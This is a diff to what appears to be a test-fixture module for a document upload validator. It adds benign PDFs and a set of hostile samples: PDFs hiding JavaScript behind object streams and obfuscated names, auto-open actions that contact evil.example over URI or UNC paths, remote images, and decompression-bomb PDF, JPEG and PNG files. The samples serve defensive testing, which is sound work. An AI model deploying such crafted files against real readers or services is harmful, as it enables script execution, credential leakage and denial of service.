@@ -77,6 +77,69 @@ const objectStream = (number: number, dictionary: string, unpacked: string | Uin
   );
 };
 
+const opening = "<</Type/Catalog/Pages 2 0 R/OpenAction 9 0 R>>";
+const onPage = (annotation: string) => rawPdf(`9 0 obj\n<</Subtype/Link${annotation}>>\nendobj\n`);
+const stored = (number: number, dictionary: string, content: string) =>
+  `${number} 0 obj\n<<${dictionary}/Length ${content.length}>>\nstream\n${content}\nendstream\nendobj\n`;
+
+/**
+ * A PDF whose catalog is in a stream that does not say that it holds objects; the table of objects,
+ * a stream as well, leads there. Readers find its script; who looks for objects finds another catalog.
+ */
+export function scriptBehindTable(): Uint8Array<ArrayBuffer> {
+  const head =
+    "%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n";
+  const catalog = "1 0 <</Type/Catalog/Pages 2 0 R/OpenAction<</S/#4aavaScript/J#53(app.alert)>>>>";
+  const holder = objectStream(3, "/N 1/First 4", catalog);
+  const table = head.length + holder.length;
+  const rows = [
+    [0, 0, 255],
+    [2, 3, 0],
+    [1, head.indexOf("2 0 obj"), 0],
+    [1, head.length, 0],
+    [1, table, 0],
+  ].flatMap(([kind = 0, place = 0, index = 0]) => [kind, place >> 8, place & 255, index]);
+  return bytesOf(
+    head,
+    holder,
+    objectStream(4, "/Type/XRef/Size 5/W[1 2 1]/Root 1 0 R", Uint8Array.from(rows)),
+    `startxref\n${table}\n%%EOF\n`,
+  );
+}
+
+/** Files of one kind that are honest, by what somebody might take for more. */
+export function harmlessPdfs(): DocumentSample[] {
+  const page = "9 0 obj\n<</S/GoTo/D[3 0 R/Fit]>>\nendobj\n";
+  return [
+    { name: "a link to a site", bytes: onPage("/A<</S/URI/URI(https://banco.example)>>") },
+    {
+      name: "a link written in digits",
+      bytes: onPage(`/A<</S/URI/URI<${Buffer.from("https://b.example").toString("hex")}>>>`),
+    },
+    { name: "a link to the next page", bytes: onPage("/A<</S/Named/N/NextPage>>") },
+    {
+      name: "a page to begin with",
+      bytes: rawPdf("1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>\nendobj\n"),
+    },
+    {
+      name: "a page to begin with, elsewhere",
+      bytes: rawPdf(`1 0 obj\n${opening}\nendobj\n`, page),
+    },
+    {
+      name: "tags of its producer's own",
+      bytes: rawPdf("9 0 obj\n<</Type/StructElem/S/Texto#20livre/P 8 0 R/K[0]>>\nendobj\n"),
+    },
+    {
+      name: "texts that look like objects",
+      bytes: rawPdf(stored(9, "", "(um objeto) Tj\n(1 0 obj [ \\( >> ) Tj ( obj ) Tj")),
+    },
+    {
+      name: "objects in a stream of no filter",
+      bytes: rawPdf(stored(9, "/Type/ObjStm/N 1/First 5", "10 0 <</Type/Metadata>>")),
+    },
+  ];
+}
+
 /** Files that are not what they seem, or are more than that; each has to be refused. */
 export async function hostileSamples(): Promise<DocumentSample[]> {
   const jpeg = await jpegSample();
@@ -84,6 +147,8 @@ export async function hostileSamples(): Promise<DocumentSample[]> {
   const pdf = await pdfSample();
   const hidden = "9 0 <</S/JavaScript/JS(app.alert(1))>>";
   const overridden = "9 0 <</Type/Metadata>>";
+  const spaces = Buffer.alloc(39 * 1024 * 1024, " ");
+  const parts = (part: string) => [part.repeat(800_000)];
   const hugePng = png.slice();
   new DataView(hugePng.buffer).setUint32(16, 0x7fff_ffff);
   return [
@@ -156,6 +221,78 @@ export async function hostileSamples(): Promise<DocumentSample[]> {
         objectStream(5, "/Type 7 0 R/N 1/First 4", hidden),
         "7 0 obj\n/ObjStm\nendobj\n",
       ),
+    },
+    { name: "a PDF whose script only its table of objects leads to", bytes: scriptBehindTable() },
+    {
+      name: "a PDF that asks a server for a file as soon as it is shown",
+      bytes: rawPdf("9 0 obj\n<</AA<</O<</S/GoToR/F(\\\\\\\\evil.example\\\\a)>>>>>>\nendobj\n"),
+    },
+    {
+      name: "a PDF that opens an address as soon as it is shown",
+      bytes: rawPdf("9 0 obj\n<</AA<</O<</S/URI/URI(https://evil.example)>>>>>>\nendobj\n"),
+    },
+    {
+      name: "a PDF that opens an address written elsewhere",
+      bytes: rawPdf(
+        `1 0 obj\n${opening}\nendobj\n9 0 obj\n10 0 R\nendobj\n`,
+        "10 0 obj\n<</S/URI/URI(https://evil.example)>>\nendobj\n",
+      ),
+    },
+    {
+      name: "a PDF that opens an address after a page",
+      bytes: onPage("/A<</S/GoTo/D[3 0 R]/Next<</S/URI/URI(https://evil.example)>>>>"),
+    },
+    { name: "a PDF that prints", bytes: onPage("/A<</S/Named/N/Print>>") },
+    { name: "a PDF with a link to a script", bytes: onPage("/A<</S/URI/URI(javascript:1)>>") },
+    {
+      name: "a PDF with a link to a file server",
+      bytes: onPage("/A<</S/URI/URI(\\\\\\\\evil.example\\\\a)>>"),
+    },
+    { name: "a PDF with an action that nobody knows", bytes: onPage("/A<</S/Novo/Alvo(x)>>") },
+    { name: "a PDF with a kind said twice", bytes: onPage("/A<</S/GoTo/S/Thread/D[3 0 R]>>") },
+    {
+      name: "a PDF with a kind said elsewhere",
+      bytes: rawPdf("9 0 obj\n<</S 10 0 R/D(a)>>\nendobj\n10 0 obj\n/Thread\nendobj\n"),
+    },
+    {
+      name: "a PDF with a screen for media",
+      bytes: rawPdf("9 0 obj\n<</Type/Annot/Subtype/Screen>>\nendobj\n"),
+    },
+    {
+      name: "a PDF with a key of its document that nobody knows",
+      bytes: rawPdf("1 0 obj\n<</Type/Catalog/Pages 2 0 R/Novo<</Abrir(x)>>>>\nendobj\n"),
+    },
+    {
+      name: "a PDF whose picture is on a server",
+      bytes: rawPdf(stored(9, "/Type/XObject/Subtype/Image/F(\\\\evil.example\\a)", "")),
+    },
+    {
+      name: "a PDF with an action in what seems to be a picture",
+      bytes: rawPdf(stored(9, "/Type/XObject/Subtype/Image", "10 0 obj <</S/Hide/T(a)>> endobj")),
+    },
+    {
+      name: "a PDF with an object within another's text",
+      bytes: rawPdf(objectStream(5, "/Type/ObjStm/N 2/First 9", "9 0 10 1 (<</S/Hide/T[]>>)")),
+    },
+    {
+      name: "a PDF that every reader mends in its own way",
+      bytes: rawPdf("9 0 obj\n<</Type/Annot 5 (a) /Subtype/Link>>\nendobj\n"),
+    },
+    {
+      name: "a PDF that unpacks to 16 times 39 MB",
+      bytes: rawPdf(
+        ...Array.from({ length: 16 }, (_stream, index) =>
+          objectStream(5 + index, "/Type/ObjStm/N 0/First 0", spaces),
+        ),
+      ),
+    },
+    {
+      name: "a JPEG of a million empty parts",
+      bytes: bytesOf("\xff\xd8", ...parts("\xff\xdb\0\x02")),
+    },
+    {
+      name: "a PNG of a million empty parts",
+      bytes: bytesOf(png.subarray(0, 33), ...parts("\0\0\0\0IDAT\0\0\0\0")),
     },
     {
       name: "a PDF that unpacks to 100 MB",
